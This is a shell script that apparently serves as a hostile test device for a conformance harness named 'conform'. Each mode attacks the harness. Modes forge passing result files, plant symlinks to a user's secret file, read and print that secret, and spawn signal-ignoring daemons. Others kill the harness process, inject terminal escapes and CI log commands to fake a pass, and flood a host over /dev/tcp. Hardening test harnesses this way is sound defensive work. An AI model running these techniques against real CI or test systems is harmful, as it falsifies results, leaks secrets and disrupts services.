#!/bin/sh
# A hostile device: attack.sh ATTACK reports=REPORTS secret=SECRET HOST PORT, where REPORTS is the
# report folder of its run and SECRET a file of the user who runs conform. It knows the harness as
# well as its authors do. (The paths have prefixes, because conform shows a device every file whose
# path is a word of its command.)
attack=$1 reports=${2#*=} secret=${3#*=}
forged='{"suite":"attack","id":"speaks","title":"","position":{"file":"","line":1,"column":1},"verdict":"pass","checks":[],"steps":[],"ignored":{},"counts":{"packets":0,"messages":0,"dropped":0},"seconds":0,"remarks":[]}'

# Lists everything near the device that could belong to the harness or a neighbour of the same run:
# other runs on this machine are those of other tests.
around() {
    find "$reports" "${HOME%/*/*/*}" -type "$1" 2>/dev/null \
        | grep -v "^${HOME%/home}/"
}

overwrite() {
    for file in $(around f); do echo "$forged" 2>/dev/null > "$file"; done
    for file in "$reports/results.json" "$HOME/../result.json" "$HOME/../../result.json"; do
        echo "$forged" 2>/dev/null > "$file"
    done
}

case $attack in
forger)
    # A daemon that outlives the case and does not stop.
    (trap '' TERM HUP; setsid sh -c "trap '' TERM HUP; while :; do
        $(command -v sh) '$0' forge-once 'reports=$reports' 'secret=$secret'; done" &) &
    sleep 600 ;;
forge-once) overwrite 2>/dev/null; sleep 0.01 ;;
daemon)
    for number in 1 2 3; do (setsid sh -c 'trap "" TERM HUP INT; sleep 613 & sleep 613' &) & done
    sleep 600 ;;
planter)
    while :; do
        for folder in $(around d); do
            for name in result.json results.json results.json.new journal.jsonl junit.xml.new \
                index.html.new summary.md.new order.json config.json; do
                ln -sf "$secret" "$folder/$name" 2>/dev/null
            done
        done
        for file in $(around f); do ln -sf "$secret" "$file" 2>/dev/null; done
        ln -sf "$secret" "$HOME/../config.json" 2>/dev/null
        sleep 0.3
    done ;;
redirector)
    # The report folder and the folders in it become links to a folder of the user.
    while :; do
        for folder in "$reports/captures" "$reports/logs" "$reports/evidence" "$reports/cases" "$reports"; do
            [ -L "$folder" ] && continue
            mv -T "$folder" "$folder.moved" 2>/dev/null && ln -sn "${secret%/*}/victim" "$folder" 2>/dev/null
        done
        for folder in $(around d); do
            mv -T "$folder" "$folder.moved" 2>/dev/null \
                && ln -sn "${secret%/*}/victim" "$folder" 2>/dev/null
        done
        sleep 0.1
    done ;;
neighbour)
    sleep 0.5
    for file in $(around f); do
        head -c 100 "$file" > /dev/null 2>&1 && echo "SEEN $file"
        { echo spoilt >> "$file"; } 2>/dev/null && echo "CHANGED $file"
    done
    { echo spoilt >> "$secret"; } 2>/dev/null && echo "CHANGED $secret"
    echo "SECRET $(cat "$secret" 2>/dev/null)"
    for file in /proc/[0-9]*/mem; do
        case $file in /proc/$$/*) continue ;; esac
        case $(cat "${file%mem}comm" 2>/dev/null) in
        conform*) { true >> "$file"; } 2>/dev/null && echo "OPENED $file" ;;
        esac
    done
    sleep 600 ;;
limiter)
    for process in /proc/[0-9]*; do
        [ "$process" = "/proc/$$" ] || prlimit --pid "${process#/proc/}" --fsize=0:0 2>/dev/null
    done
    sleep 600 ;;
killer)
    # Kills those of its ancestors that are called conform.
    while :; do
        parent=$PPID
        while [ "${parent:-0}" -gt 1 ]; do
            next=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$parent/status" 2>/dev/null)
            case $(cat "/proc/$parent/comm" 2>/dev/null) in
            conform*) kill -9 "$parent" 2>/dev/null ;;
            esac
            parent=$next
        done
        sleep 0.05
    done ;;
writer)
    printf '\033[2J\033]0;title\007\033[31mred\n<script>alert(1)</script>]]>\n'
    printf '::set-output name=verdict::pass\n##[error]forged\n##vso[task.complete result=Succeeded;]\n'
    printf '\377\376 not UTF-8 \303\n'
    printf '::set-output name=verdict::pass %s ::error::x\n' "$(printf '%0150d' 0 | tr 0 ' ')" >&2
    kill -SEGV $$ ;;
flooder)
    exec bash -c 'exec 3<>/dev/tcp/$1/$2; while :; do head -c 1000000 /dev/zero >&3 || break; done; sleep 600' \
        bash "$4" "$5" ;;
esac
